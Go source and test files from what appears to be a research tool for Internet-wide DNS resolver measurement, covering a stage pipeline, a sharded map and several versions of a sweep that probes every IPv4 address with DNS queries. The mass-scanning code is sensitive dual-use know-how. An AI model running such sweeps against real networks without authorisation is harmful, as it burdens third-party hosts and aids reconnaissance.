	tee := TeeObservers(a, nil, b)
	tee(StageEvent{Stage: "x", Kind: StageStart})
	if len(order) != 2 || order[0] != "a:x" || order[1] != "b:x" {
		t.Errorf("tee order = %v", order)
	}
}

// TestMetricsObserverNilRegistry: observability off must cost the
// engine nothing — a nil registry yields a nil observer.
func TestMetricsObserverNilRegistry(t *testing.T) {
	if MetricsObserver(nil) != nil {
		t.Error("MetricsObserver(nil) is not nil")
	}
}
