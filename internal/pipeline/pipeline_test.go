package pipeline

import (
	"context"
	"errors"
	"strings"
	"sync"
	"testing"
	"time"
)

// fakeClock advances on Sleep so stage timing is exact.
type fakeClock struct {
	mu  sync.Mutex
	now time.Time
}

func newFakeClock() *fakeClock { return &fakeClock{now: time.Unix(1_000_000, 0)} }

func (c *fakeClock) Now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.now
}

func (c *fakeClock) Sleep(d time.Duration) {
	c.mu.Lock()
	c.now = c.now.Add(d)
	c.mu.Unlock()
}

func okStage(name string, needs []string, log *[]string, counts ...Count) Stage {
	return Stage{Name: name, Needs: needs, Run: func(ctx context.Context) ([]Count, error) {
		*log = append(*log, name)
		return counts, nil
	}}
}

func TestRunFollowsDependencyOrder(t *testing.T) {
	var log []string
	e := New(newFakeClock(), nil)
	// Added out of dependency order on purpose: Needs, not Add order,
	// decides precedence, with Add order breaking ties.
	e.MustAdd(okStage("classify", []string{"prefilter"}, &log))
	e.MustAdd(okStage("sweep", nil, &log, Count{"responders", 7}))
	e.MustAdd(okStage("prefilter", []string{"domain-scan"}, &log))
	e.MustAdd(okStage("domain-scan", []string{"sweep"}, &log))
	trace, err := e.Run(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"sweep", "domain-scan", "prefilter", "classify"}
	if strings.Join(log, ",") != strings.Join(want, ",") {
		t.Fatalf("execution order %v, want %v", log, want)
	}
	if len(trace.Stages) != 4 || trace.Stages[0].Name != "sweep" {
		t.Fatalf("trace %+v", trace.Stages)
	}
	counts := trace.Counts()
	if len(counts) != 1 || counts[0] != (Count{"responders", 7}) {
		t.Fatalf("trace counts %v", counts)
	}
}

func TestRunOrderIsStableAcrossIndependentStages(t *testing.T) {
	// Independent stages must run in Add order every time — map-order
	// leakage here would reorder measurements between runs.
	for trial := 0; trial < 20; trial++ {
		var log []string
		e := New(newFakeClock(), nil)
		for _, name := range []string{"e", "a", "d", "b", "c"} {
			e.MustAdd(okStage(name, nil, &log))
		}
		if _, err := e.Run(context.Background()); err != nil {
			t.Fatal(err)
		}
		if got := strings.Join(log, ""); got != "eadbc" {
			t.Fatalf("trial %d: order %q, want eadbc", trial, got)
		}
	}
}

func TestAddValidation(t *testing.T) {
	e := New(nil, nil)
	if err := e.Add(Stage{Name: "", Run: func(context.Context) ([]Count, error) { return nil, nil }}); err == nil {
		t.Error("empty name accepted")
	}
	if err := e.Add(Stage{Name: "x"}); err == nil {
		t.Error("nil Run accepted")
	}
	if err := e.Add(Stage{Name: "x", Run: func(context.Context) ([]Count, error) { return nil, nil }}); err != nil {
		t.Fatal(err)
	}
	if err := e.Add(Stage{Name: "x", Run: func(context.Context) ([]Count, error) { return nil, nil }}); err == nil {
		t.Error("duplicate name accepted")
	}
}

func TestRunRejectsUnknownAndCyclicNeeds(t *testing.T) {
	var log []string
	e := New(nil, nil)
	e.MustAdd(okStage("a", []string{"ghost"}, &log))
	if _, err := e.Run(context.Background()); err == nil || !strings.Contains(err.Error(), "ghost") {
		t.Errorf("unknown dependency: err = %v", err)
	}
	if len(log) != 0 {
		t.Error("stage ran despite invalid DAG")
	}

	e = New(nil, nil)
	e.MustAdd(okStage("a", []string{"b"}, &log))
	e.MustAdd(okStage("b", []string{"a"}, &log))
	if _, err := e.Run(context.Background()); err == nil || !strings.Contains(err.Error(), "cycle") {
		t.Errorf("cycle: err = %v", err)
	}

	e = New(nil, nil)
	e.MustAdd(okStage("a", []string{"a"}, &log))
	if _, err := e.Run(context.Background()); err == nil {
		t.Error("self-dependency accepted")
	}
}

func TestStageErrorStopsPipeline(t *testing.T) {
	boom := errors.New("boom")
	var log []string
	e := New(newFakeClock(), nil)
	e.MustAdd(okStage("a", nil, &log))
	e.MustAdd(Stage{Name: "b", Needs: []string{"a"}, Run: func(ctx context.Context) ([]Count, error) {
		return nil, boom
	}})
	e.MustAdd(okStage("c", []string{"b"}, &log))
	trace, err := e.Run(context.Background())
	if !errors.Is(err, boom) {
		t.Fatalf("err = %v, want wrapped boom", err)
	}
	if !strings.Contains(err.Error(), `stage "b"`) {
		t.Errorf("error %q does not name the failing stage", err)
	}
	if strings.Join(log, ",") != "a" {
		t.Errorf("ran %v, want only a", log)
	}
	if len(trace.Stages) != 2 || trace.Stages[0].Name != "a" || trace.Stages[1].Name != "b" {
		t.Fatalf("partial trace %+v, want a then the failed b", trace.Stages)
	}
	if !errors.Is(trace.Stages[1].Err, boom) || trace.Stages[1].Degraded {
		t.Errorf("failed stage recorded as %+v, want Err=boom and not degraded", trace.Stages[1])
	}
	if strings.Join(trace.Skipped, ",") != "c" {
		t.Errorf("skipped = %v, want [c]", trace.Skipped)
	}
}

func TestCancellationCheckpointBetweenStages(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	var log []string
	e := New(newFakeClock(), nil)
	e.MustAdd(Stage{Name: "a", Run: func(ctx context.Context) ([]Count, error) {
		log = append(log, "a")
		cancel() // dies while a is running; b must never start
		return nil, nil
	}})
	e.MustAdd(okStage("b", []string{"a"}, &log))
	trace, err := e.Run(ctx)
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
	if strings.Join(log, ",") != "a" {
		t.Errorf("ran %v, want only a", log)
	}
	if len(trace.Stages) != 1 {
		t.Errorf("trace has %d stages, want the 1 that completed", len(trace.Stages))
	}
	if strings.Join(trace.Skipped, ",") != "b" {
		t.Errorf("skipped = %v, want [b]", trace.Skipped)
	}
}

func TestObserverSeesLifecycleAndTiming(t *testing.T) {
	fc := newFakeClock()
	var events []StageEvent
	e := New(fc, func(ev StageEvent) { events = append(events, ev) })
	e.MustAdd(Stage{Name: "slow", Run: func(ctx context.Context) ([]Count, error) {
		fc.Sleep(3 * time.Second)
		return []Count{{"tuples", 42}}, nil
	}})
	e.MustAdd(Stage{Name: "bad", Needs: []string{"slow"}, Run: func(ctx context.Context) ([]Count, error) {
		return nil, errors.New("nope")
	}})
	trace, err := e.Run(context.Background())
	if err == nil {
		t.Fatal("expected failure")
	}
	want := []struct {
		stage string
		kind  EventKind
	}{
		{"slow", StageStart}, {"slow", StageDone},
		{"bad", StageStart}, {"bad", StageFailed},
	}
	if len(events) != len(want) {
		t.Fatalf("got %d events, want %d: %+v", len(events), len(want), events)
	}
	for i, w := range want {
		if events[i].Stage != w.stage || events[i].Kind != w.kind {
			t.Errorf("event %d = %s/%s, want %s/%s", i, events[i].Stage, events[i].Kind, w.stage, w.kind)
		}
	}
	if events[1].Elapsed != 3*time.Second {
		t.Errorf("StageDone elapsed = %v, want exactly 3s on the fake clock", events[1].Elapsed)
	}
	if len(events[1].Counts) != 1 || events[1].Counts[0].Value != 42 {
		t.Errorf("StageDone counts = %v", events[1].Counts)
	}
	if events[3].Err == nil {
		t.Error("StageFailed event carries no error")
	}
	if trace.Stages[0].Elapsed != 3*time.Second {
		t.Errorf("trace elapsed = %v, want 3s", trace.Stages[0].Elapsed)
	}
}

func TestEventKindString(t *testing.T) {
	if StageStart.String() != "start" || StageDone.String() != "done" || StageFailed.String() != "failed" {
		t.Error("EventKind names drifted")
	}
	if StageDegraded.String() != "degraded" || StageSkipped.String() != "skipped" {
		t.Error("degradation EventKind names drifted")
	}
	if Required.String() != "required" || BestEffort.String() != "best-effort" {
		t.Error("Policy names drifted")
	}
	if got := EventKind(9).String(); !strings.Contains(got, "9") {
		t.Errorf("unknown kind = %q", got)
	}
}

func TestBestEffortStageDegrades(t *testing.T) {
	soft := errors.New("soft failure")
	var log []string
	var events []StageEvent
	e := New(newFakeClock(), func(ev StageEvent) { events = append(events, ev) })
	e.MustAdd(okStage("a", nil, &log))
	e.MustAdd(Stage{Name: "b", Needs: []string{"a"}, Policy: BestEffort, Run: func(ctx context.Context) ([]Count, error) {
		return nil, soft
	}})
	e.MustAdd(okStage("c", []string{"b"}, &log, Count{"tuples", 3}))
	trace, err := e.Run(context.Background())
	if err != nil {
		t.Fatalf("degraded run returned error %v, want nil", err)
	}
	if strings.Join(log, ",") != "a,c" {
		t.Errorf("ran %v, want a and c around the degraded b", log)
	}
	if len(trace.Stages) != 3 {
		t.Fatalf("trace %+v, want all three stages recorded", trace.Stages)
	}
	b := trace.Stages[1]
	if b.Name != "b" || !errors.Is(b.Err, soft) || !b.Degraded {
		t.Errorf("degraded stage recorded as %+v", b)
	}
	deg := trace.Degraded()
	if len(deg) != 1 || deg[0].Name != "b" {
		t.Errorf("Degraded() = %+v, want just b", deg)
	}
	if len(trace.Skipped) != 0 {
		t.Errorf("skipped = %v, want none", trace.Skipped)
	}
	// Downstream counts survive: the degraded stage contributes nothing.
	counts := trace.Counts()
	if len(counts) != 1 || counts[0] != (Count{"tuples", 3}) {
		t.Errorf("counts = %v", counts)
	}
	var kinds []string
	for _, ev := range events {
		kinds = append(kinds, ev.Stage+":"+ev.Kind.String())
	}
	want := "a:start,a:done,b:start,b:degraded,c:start,c:done"
	if strings.Join(kinds, ",") != want {
		t.Errorf("events %v, want %s", kinds, want)
	}
}

func TestBestEffortCancellationStillAborts(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	var log []string
	e := New(newFakeClock(), nil)
	e.MustAdd(Stage{Name: "a", Policy: BestEffort, Run: func(ctx context.Context) ([]Count, error) {
		cancel()
		return nil, ctx.Err()
	}})
	e.MustAdd(okStage("b", []string{"a"}, &log))
	trace, err := e.Run(ctx)
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled despite BestEffort", err)
	}
	if len(log) != 0 {
		t.Errorf("ran %v after cancellation", log)
	}
	if strings.Join(trace.Skipped, ",") != "b" {
		t.Errorf("skipped = %v, want [b]", trace.Skipped)
	}
}

func TestRequiredFailureEmitsSkippedEvents(t *testing.T) {
	var log []string
	var events []StageEvent
	e := New(newFakeClock(), func(ev StageEvent) { events = append(events, ev) })
	e.MustAdd(Stage{Name: "a", Run: func(ctx context.Context) ([]Count, error) {
		return nil, errors.New("hard failure")
	}})
	e.MustAdd(okStage("b", []string{"a"}, &log))
	e.MustAdd(okStage("c", []string{"b"}, &log))
	trace, err := e.Run(context.Background())
	if err == nil {
		t.Fatal("expected failure")
	}
	var kinds []string
	for _, ev := range events {
		kinds = append(kinds, ev.Stage+":"+ev.Kind.String())
	}
	want := "a:start,a:failed,b:skipped,c:skipped"
	if strings.Join(kinds, ",") != want {
		t.Errorf("events %v, want %s", kinds, want)
	}
	if strings.Join(trace.Skipped, ",") != "b,c" {
		t.Errorf("skipped = %v, want [b c]", trace.Skipped)
	}
}
