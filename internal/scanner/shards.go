package scanner

import "sync"

// Response collection used to funnel every receiver callback through one
// mutex-guarded map. At millions of probes per second across 16 sender
// goroutines (the in-memory transport delivers responses synchronously on
// the sending goroutine), that lock is the scan's ceiling. The collectors
// here stripe the state over a power-of-two shard array indexed by a
// multiplicative hash of the key, so concurrent receivers contend only
// when they land on the same shard.

// nShards is the stripe count. 64 shards keep the collision probability
// for 16 workers under 2% per access while the whole array stays small
// enough to walk cheaply at collect time.
const nShards = 64

// shardMask extracts the shard index from the hash's top bits.
const shardShift = 32 - 6 // log2(nShards) == 6

// shardOf maps a key (an IPv4 address or probe index) to its stripe.
// Knuth's multiplicative hash spreads sequential and LFSR-permuted keys
// evenly; the top bits are the well-mixed ones.
//
//lint:hotpath per-response collector insert
func shardOf(key uint32) uint32 {
	return key * 2654435761 >> shardShift
}

// mapShard is one stripe of a shardedMap, padded out to its own cache
// line so neighboring shard locks do not false-share.
type mapShard[V any] struct {
	mu sync.Mutex
	m  map[uint32]V
	_  [40]byte
}

// shardedMap is a striped insert-mostly map keyed by uint32. All methods
// are safe for concurrent use.
type shardedMap[V any] struct {
	shards [nShards]mapShard[V]
}

// newShardedMap sizes each stripe for about hint total entries.
func newShardedMap[V any](hint int) *shardedMap[V] {
	s := new(shardedMap[V])
	per := hint / nShards
	for i := range s.shards {
		s.shards[i].m = make(map[uint32]V, per)
	}
	return s
}

// InsertOnce stores v under key unless the key is already present,
// reporting whether it stored. First writer wins, matching the dedup
// semantics of the old single-map collectors.
//
//lint:hotpath per-response collector insert
func (s *shardedMap[V]) InsertOnce(key uint32, v V) bool {
	sh := &s.shards[shardOf(key)]
	sh.mu.Lock()
	_, dup := sh.m[key]
	if !dup {
		sh.m[key] = v
	}
	sh.mu.Unlock()
	return !dup
}

// Get returns the value stored under key.
func (s *shardedMap[V]) Get(key uint32) (V, bool) {
	sh := &s.shards[shardOf(key)]
	sh.mu.Lock()
	v, ok := sh.m[key]
	sh.mu.Unlock()
	return v, ok
}

// Len returns the total entry count.
func (s *shardedMap[V]) Len() int {
	n := 0
	for i := range s.shards {
		sh := &s.shards[i]
		sh.mu.Lock()
		n += len(sh.m)
		sh.mu.Unlock()
	}
	return n
}

// Collect calls fn for every entry, in unspecified order: callers that
// build output from it must sort afterwards, exactly as with a plain map.
func (s *shardedMap[V]) Collect(fn func(key uint32, v V)) {
	for i := range s.shards {
		sh := &s.shards[i]
		sh.mu.Lock()
		for k, v := range sh.m {
			fn(k, v)
		}
		sh.mu.Unlock()
	}
}

// paddedMutex is a mutex on its own cache line.
type paddedMutex struct {
	sync.Mutex
	_ [56]byte
}

// stripedMutex guards index-addressed state (domain-scan answer rows,
// CHAOS answer slots) without a single global lock: lock of(key) around
// any access to the state that key addresses. Distinct keys may share a
// stripe; that is safe (coarser locking), just slower.
type stripedMutex struct {
	locks [nShards]paddedMutex
}

// of returns the stripe lock for key.
//
//lint:hotpath per-response collector insert
func (s *stripedMutex) of(key uint32) *sync.Mutex {
	return &s.locks[shardOf(key)].Mutex
}
