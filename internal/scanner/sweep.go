package scanner

import (
	"sort"
	"sync"

	"goingwild/internal/dnswire"
	"goingwild/internal/domains"
	"goingwild/internal/lfsr"
)

// Responder is one host that answered the Internet-wide sweep.
type Responder struct {
	// Addr is the probed target address (recovered from the hex-IP
	// query name, not the packet source, §2.2).
	Addr uint32
	// Source is the address the response actually came from; differing
	// from Addr marks multi-homed hosts and DNS proxies.
	Source uint32
	RCode  dnswire.RCode
	// Answered reports a non-empty A answer section.
	Answered bool
}

// MisSourced reports whether the response came from a different host than
// probed.
func (r Responder) MisSourced() bool { return r.Addr != r.Source }

// SweepResult aggregates one Internet-wide scan.
type SweepResult struct {
	// Probed is the number of targets probed (after blacklisting).
	Probed uint64
	// Responders lists every answering host, by target address.
	Responders []Responder
	// ByRCode counts responders per status code (Figure 1 series).
	ByRCode map[dnswire.RCode]int
}

// Total returns the count of responding hosts.
func (r *SweepResult) Total() int { return len(r.Responders) }

// NOERROR returns the addresses of resolvers that answered NOERROR — the
// population every follow-up experiment starts from.
func (r *SweepResult) NOERROR() []uint32 {
	var out []uint32
	for _, resp := range r.Responders {
		if resp.RCode == dnswire.RCodeNoError {
			out = append(out, resp.Addr)
		}
	}
	return out
}

// MisSourcedCount counts responders replying from foreign addresses.
func (r *SweepResult) MisSourcedCount() int {
	n := 0
	for _, resp := range r.Responders {
		if resp.MisSourced() {
			n++
		}
	}
	return n
}

// cachePrefix derives the per-target random label that defeats caching
// (§2.2), without fmt on the hot path.
func cachePrefix(u uint32) string {
	v := uint16(uint64(u) * 2654435761 >> 8)
	const hexdigits = "0123456789abcdef"
	return string([]byte{'r', hexdigits[v>>12], hexdigits[v>>8&0xF], hexdigits[v>>4&0xF], hexdigits[v&0xF]})
}

// sweepState collects responses during a sweep keyed by target address.
type sweepState struct {
	mu        sync.Mutex
	responses map[uint32]Responder
}

// Sweep probes every address of a 2^order space once, in LFSR-permuted
// order, skipping the blacklist. Each probe is a DNS A query for
// prefix.hex-ip.scanbase, so responses are attributed to the probed
// target regardless of their source address.
func (s *Scanner) Sweep(order uint, seed uint32, bl *lfsr.Blacklist) (*SweepResult, error) {
	if s.tr == nil {
		return nil, ErrNoTransport
	}
	gen, err := lfsr.NewTargetGenerator(order, seed, bl)
	if err != nil {
		return nil, err
	}
	var targets []uint32
	for {
		u, ok := gen.NextU32()
		if !ok {
			break
		}
		targets = append(targets, u)
	}
	st := &sweepState{responses: make(map[uint32]Responder, len(targets)/64)}
	s.tr.SetReceiver(func(src netip4, srcPort, dstPort uint16, payload []byte) {
		m, err := dnswire.Unpack(payload)
		if err != nil || !m.Header.QR || len(m.Questions) == 0 {
			return
		}
		target, err := dnswire.DecodeTargetQName(m.Questions[0].Name, domains.ScanBase)
		if err != nil {
			return
		}
		r := Responder{
			Addr:     lfsr.AddrToU32(target),
			Source:   addrU32(src),
			RCode:    m.Header.RCode,
			Answered: len(m.AnswerAddrs()) > 0,
		}
		st.mu.Lock()
		if _, dup := st.responses[r.Addr]; !dup {
			st.responses[r.Addr] = r
		}
		st.mu.Unlock()
	})

	// A census sends exactly one probe per target: retransmitting to
	// the silent majority (non-resolvers) would double the scan for a
	// fraction-of-a-percent gain. Loss is accounted for by the
	// secondary-vantage verification scan instead (§2.2).
	//
	// Probe construction is the hot path: queries are assembled into
	// pooled buffers without a Message allocation. Transports must not
	// retain payloads after Send returns.
	var bufPool = sync.Pool{New: func() any { b := make([]byte, 0, 128); return &b }}
	s.sendAll(len(targets), func(i int) {
		u := targets[i]
		name := dnswire.EncodeTargetQName(cachePrefix(u), lfsr.U32ToAddr(u), domains.ScanBase)
		bp := bufPool.Get().(*[]byte)
		wire, err := dnswire.AppendQuery((*bp)[:0], uint16(u)^uint16(u>>16), name, dnswire.TypeA, dnswire.ClassIN)
		if err == nil {
			s.tr.Send(lfsr.U32ToAddr(u), 53, s.opts.BasePort, wire)
		}
		*bp = wire[:0]
		bufPool.Put(bp)
	})
	s.settle()

	res := &SweepResult{
		Probed:  uint64(len(targets)),
		ByRCode: make(map[dnswire.RCode]int),
	}
	st.mu.Lock()
	for _, r := range st.responses {
		res.Responders = append(res.Responders, r)
		res.ByRCode[r.RCode]++
	}
	st.mu.Unlock()
	// st.responses is a map; sort so the responder list (and everything
	// derived from it, e.g. NOERROR ordering) is reproducible.
	sort.Slice(res.Responders, func(i, j int) bool {
		return res.Responders[i].Addr < res.Responders[j].Addr
	})
	return res, nil
}

// Probe sends a single query toward one resolver and returns all
// responses that arrive before the settle deadline (the GFW study needs
// to observe response races, §4.2).
func (s *Scanner) Probe(addr uint32, name string, typ dnswire.Type, class dnswire.Class) []*dnswire.Message {
	var mu sync.Mutex
	var out []*dnswire.Message
	s.tr.SetReceiver(func(src netip4, srcPort, dstPort uint16, payload []byte) {
		if m, err := dnswire.Unpack(payload); err == nil && m.Header.QR {
			mu.Lock()
			out = append(out, m)
			mu.Unlock()
		}
	})
	wire := packQuery(0x5157, name, typ, class)
	s.tr.Send(lfsr.U32ToAddr(addr), 53, s.opts.BasePort, wire)
	s.settle()
	mu.Lock()
	defer mu.Unlock()
	return out
}
