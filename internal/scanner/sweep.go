package scanner

import (
	"context"
	"sort"
	"sync"

	"goingwild/internal/dnswire"
	"goingwild/internal/domains"
	"goingwild/internal/lfsr"
	"goingwild/internal/metrics"
)

// Responder is one host that answered the Internet-wide sweep.
type Responder struct {
	// Addr is the probed target address (recovered from the hex-IP
	// query name, not the packet source, §2.2).
	Addr uint32
	// Source is the address the response actually came from; differing
	// from Addr marks multi-homed hosts and DNS proxies.
	Source uint32
	RCode  dnswire.RCode
	// Answered reports a non-empty A answer section.
	Answered bool
}

// MisSourced reports whether the response came from a different host than
// probed.
func (r Responder) MisSourced() bool { return r.Addr != r.Source }

// SweepResult aggregates one Internet-wide scan.
type SweepResult struct {
	// Probed is the number of targets probed (after blacklisting).
	Probed uint64
	// Responders lists every answering host, by target address.
	Responders []Responder
	// ByRCode counts responders per status code (Figure 1 series).
	ByRCode map[dnswire.RCode]int
}

// Total returns the count of responding hosts.
func (r *SweepResult) Total() int { return len(r.Responders) }

// NOERROR returns the addresses of resolvers that answered NOERROR — the
// population every follow-up experiment starts from. The result is sized
// exactly in one pass before filling, since at the 27M-responder scale of
// §2.2 append-doubling would copy the slice ~25 times.
func (r *SweepResult) NOERROR() []uint32 {
	n := 0
	for _, resp := range r.Responders {
		if resp.RCode == dnswire.RCodeNoError {
			n++
		}
	}
	if n == 0 {
		return nil
	}
	out := make([]uint32, 0, n)
	for _, resp := range r.Responders {
		if resp.RCode == dnswire.RCodeNoError {
			out = append(out, resp.Addr)
		}
	}
	return out
}

// MisSourcedCount counts responders replying from foreign addresses.
func (r *SweepResult) MisSourcedCount() int {
	n := 0
	for _, resp := range r.Responders {
		if resp.MisSourced() {
			n++
		}
	}
	return n
}

// cachePrefix derives the per-target random label that defeats caching
// (§2.2), written into a fixed-size array so the send path never converts
// through a string.
//
//lint:hotpath per-probe / per-response sweep path
func cachePrefix(u uint32) [5]byte { return cachePrefixN(u, 0) }

// cachePrefixN salts the anti-caching label with the retry attempt:
// attempt 0 is byte-identical to the original census probe, while each
// retransmission round carries a fresh label — a genuinely new packet
// that redraws its per-packet loss fate (the target decode ignores the
// prefix, so attribution is unaffected).
//
//lint:hotpath per-probe / per-response sweep path
func cachePrefixN(u uint32, attempt int) [5]byte {
	v := uint16((uint64(u)*2654435761 + uint64(attempt)*0x9E3779B9) >> 8)
	const hexdigits = "0123456789abcdef"
	return [5]byte{'r', hexdigits[v>>12], hexdigits[v>>8&0xF], hexdigits[v>>4&0xF], hexdigits[v&0xF]}
}

// sweepCollector accumulates sweep responses in a sharded map keyed by
// target address. Its receive method is the hot receiver callback: one
// pooled wire view, no Message, no allocation at steady state.
type sweepCollector struct {
	base      string // canonical scan base the qname must end in
	responses *shardedMap[Responder]
	recv      *metrics.Counter // valid sweep responses seen (nil = metrics off)
}

func newSweepCollector(base string, hint int) *sweepCollector {
	return &sweepCollector{
		base:      dnswire.CanonicalName(base),
		responses: newShardedMap[Responder](hint),
	}
}

// receive handles one response datagram. First response per target wins,
// as with the old single-map collector.
//
//lint:hotpath per-probe / per-response sweep path
func (st *sweepCollector) receive(src netip4, srcPort, dstPort uint16, payload []byte) {
	v := dnswire.GetView()
	defer dnswire.PutView(v)
	if err := v.Reset(payload); err != nil || !v.QR() || v.QDCount() == 0 {
		return
	}
	target, ok := dnswire.DecodeTargetQNameU32(v.QName(), st.base)
	if !ok {
		return
	}
	st.recv.Inc()
	st.responses.InsertOnce(target, Responder{
		Addr:     target,
		Source:   addrU32(src),
		RCode:    v.RCode(),
		Answered: v.HasAnswerA(),
	})
}

// Sweep probes every address of a 2^order space once, in LFSR-permuted
// order, skipping the blacklist. It is the ctx-less wrapper over
// SweepContext.
func (s *Scanner) Sweep(order uint, seed uint32, bl *lfsr.Blacklist) (*SweepResult, error) {
	return s.SweepContext(bgCtx, order, seed, bl)
}

// SweepContext probes every address of a 2^order space once, in
// LFSR-permuted order, skipping the blacklist. Each probe is a DNS A
// query for prefix.hex-ip.scanbase, so responses are attributed to the
// probed target regardless of their source address. Targets stream from
// the generator straight to the sender workers — the permutation is
// never materialized.
//
// Cancellation is honored between send batches and during the settle
// wait. A cancelled sweep returns ctx.Err() together with a consistent
// partial result: every response collected before the abort is present,
// sorted, and counted, so callers that tolerate partial censuses (e.g. a
// checkpointing orchestrator) can keep it.
func (s *Scanner) SweepContext(ctx context.Context, order uint, seed uint32, bl *lfsr.Blacklist) (*SweepResult, error) {
	if s.tr == nil {
		return nil, ErrNoTransport
	}
	gen, err := lfsr.NewTargetGenerator(order, seed, bl)
	if err != nil {
		return nil, err
	}
	hint := int(uint64(1) << order / 64)
	st := newSweepCollector(domains.ScanBase, hint)
	st.recv = s.m.sweepRecv
	s.tr.SetReceiver(st.receive)
	baseWire, err := dnswire.EncodeNameWire(st.base)
	if err != nil {
		return nil, err
	}

	// A census sends exactly one probe per target: retransmitting to
	// the silent majority (non-resolvers) would double the scan for a
	// fraction-of-a-percent gain. Loss is accounted for by the
	// secondary-vantage verification scan instead (§2.2).
	//
	// Probe construction is the hot path: queries are written label by
	// label into pooled buffers without a name or Message allocation.
	// Transports must not retain payloads after Send returns.
	probed, scanErr := s.streamAll(ctx, gen, func(u uint32, scratch *[]byte) {
		prefix := cachePrefix(u)
		wire := dnswire.AppendTargetQuery((*scratch)[:0], uint16(u)^uint16(u>>16),
			prefix[:], u, baseWire, dnswire.TypeA, dnswire.ClassIN)
		s.m.sweepSent.Inc()
		//lint:allow errdrop sweep send failures are modeled packet loss
		s.tr.Send(ctx, lfsr.U32ToAddr(u), 53, s.opts.BasePort, wire)
		*scratch = wire[:0]
	})
	if settleErr := s.settle(ctx); scanErr == nil {
		scanErr = settleErr
	}
	if scanErr == nil && s.opts.SweepRetries > 0 {
		scanErr = s.sweepRetryRounds(ctx, order, seed, bl, baseWire, st)
	}

	res := &SweepResult{
		Probed:     probed,
		ByRCode:    make(map[dnswire.RCode]int),
		Responders: make([]Responder, 0, st.responses.Len()),
	}
	st.responses.Collect(func(_ uint32, r Responder) {
		res.Responders = append(res.Responders, r)
		res.ByRCode[r.RCode]++
	})
	// Shard maps iterate in unspecified order; sort so the responder list
	// (and everything derived from it, e.g. NOERROR ordering) is
	// reproducible.
	sort.Slice(res.Responders, func(i, j int) bool {
		return res.Responders[i].Addr < res.Responders[j].Addr
	})
	return res, scanErr
}

// sweepRetryRounds retransmits toward the sweep's non-responders
// (Options.SweepRetries rounds), honoring the backoff schedule, the
// retransmission budget, and the stage deadline. Each round walks the
// permutation again and re-probes only still-silent targets with an
// attempt-salted anti-caching prefix, so every retransmission is a new
// packet with a fresh loss draw. The answered set at each round's start
// is fixed by the settle barrier, so the retransmitted target set is
// schedule-independent; Probed stays the census count (retries are
// recovery traffic, not coverage).
func (s *Scanner) sweepRetryRounds(ctx context.Context, order uint, seed uint32, bl *lfsr.Blacklist, baseWire []byte, st *sweepCollector) error {
	guard := s.newDeadlineGuard()
	budget := s.opts.RetryBudget
	for attempt := 1; attempt <= s.opts.SweepRetries; attempt++ {
		// Checkpoint between retry rounds.
		if err := ctx.Err(); err != nil {
			return err
		}
		if guard.expired() {
			return nil
		}
		if s.opts.RetryBudget > 0 && budget <= 0 {
			return nil
		}
		if err := s.backoffWait(ctx, attempt); err != nil {
			return err
		}
		gen, err := lfsr.NewTargetGenerator(order, seed, bl)
		if err != nil {
			return err
		}
		s.m.retryRounds.Inc()
		resend := func(u uint32, scratch *[]byte) {
			if _, answered := st.responses.Get(u); answered {
				return
			}
			prefix := cachePrefixN(u, attempt)
			wire := dnswire.AppendTargetQuery((*scratch)[:0], uint16(u)^uint16(u>>16),
				prefix[:], u, baseWire, dnswire.TypeA, dnswire.ClassIN)
			s.m.sweepSent.Inc()
			s.m.retrySpend.Inc()
			//lint:allow errdrop sweep retransmission failures are modeled packet loss
			s.tr.Send(ctx, lfsr.U32ToAddr(u), 53, s.opts.BasePort, wire)
			*scratch = wire[:0]
		}
		if s.opts.RetryBudget > 0 {
			// A bound budget needs a deterministic target set: materialize
			// the first `budget` misses in permutation order, then send
			// serially (the budgeted path is small by construction).
			targets := make([]uint32, 0, budget)
			for len(targets) < budget {
				u, ok := gen.NextU32()
				if !ok {
					break
				}
				if _, answered := st.responses.Get(u); !answered {
					targets = append(targets, u)
				}
			}
			budget -= len(targets)
			scratch := sweepBufPool.Get().(*[]byte)
			cancellable := ctx.Done() != nil
			for i, u := range targets {
				if cancellable && i%streamBatch == 0 && ctx.Err() != nil {
					break
				}
				s.rate.wait(ctx)
				resend(u, scratch)
			}
			sweepBufPool.Put(scratch)
		} else if _, err := s.streamAll(ctx, gen, resend); err != nil {
			return err
		}
		if err := s.settle(ctx); err != nil {
			return err
		}
	}
	return ctx.Err()
}

// Probe sends a single query toward one resolver; it is the ctx-less
// wrapper over ProbeContext.
func (s *Scanner) Probe(addr uint32, name string, typ dnswire.Type, class dnswire.Class) []*dnswire.Message {
	out, _ := s.ProbeContext(bgCtx, addr, name, typ, class)
	return out
}

// ProbeContext sends a single query toward one resolver and returns all
// responses that arrive before the settle deadline (the GFW study needs
// to observe response races, §4.2). A dead context cuts the settle wait
// short and surfaces as ctx.Err() alongside whatever arrived.
func (s *Scanner) ProbeContext(ctx context.Context, addr uint32, name string, typ dnswire.Type, class dnswire.Class) ([]*dnswire.Message, error) {
	if s.tr == nil {
		return nil, ErrNoTransport
	}
	var mu sync.Mutex
	var out []*dnswire.Message
	s.tr.SetReceiver(func(src netip4, srcPort, dstPort uint16, payload []byte) {
		if m, err := dnswire.Unpack(payload); err == nil && m.Header.QR {
			s.m.probeRecv.Inc()
			mu.Lock()
			out = append(out, m)
			mu.Unlock()
		}
	})
	wire := packQuery(0x5157, name, typ, class)
	s.m.probeSent.Inc()
	//lint:allow errdrop single-probe send failures are modeled packet loss
	s.tr.Send(ctx, lfsr.U32ToAddr(addr), 53, s.opts.BasePort, wire)
	err := s.settle(ctx)
	mu.Lock()
	defer mu.Unlock()
	return out, err
}
