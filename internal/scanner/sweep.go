package scanner

import (
	"context"
	"sort"
	"strconv"
	"sync"

	"goingwild/internal/dnswire"
	"goingwild/internal/domains"
	"goingwild/internal/lfsr"
	"goingwild/internal/metrics"
	"goingwild/internal/wildnet"
)

// Responder is one host that answered the Internet-wide sweep.
type Responder struct {
	// Addr is the probed target address (recovered from the hex-IP
	// query name, not the packet source, §2.2).
	Addr uint32
	// Source is the address the response actually came from; differing
	// from Addr marks multi-homed hosts and DNS proxies.
	Source uint32
	RCode  dnswire.RCode
	// Answered reports a non-empty A answer section.
	Answered bool
}

// MisSourced reports whether the response came from a different host than
// probed.
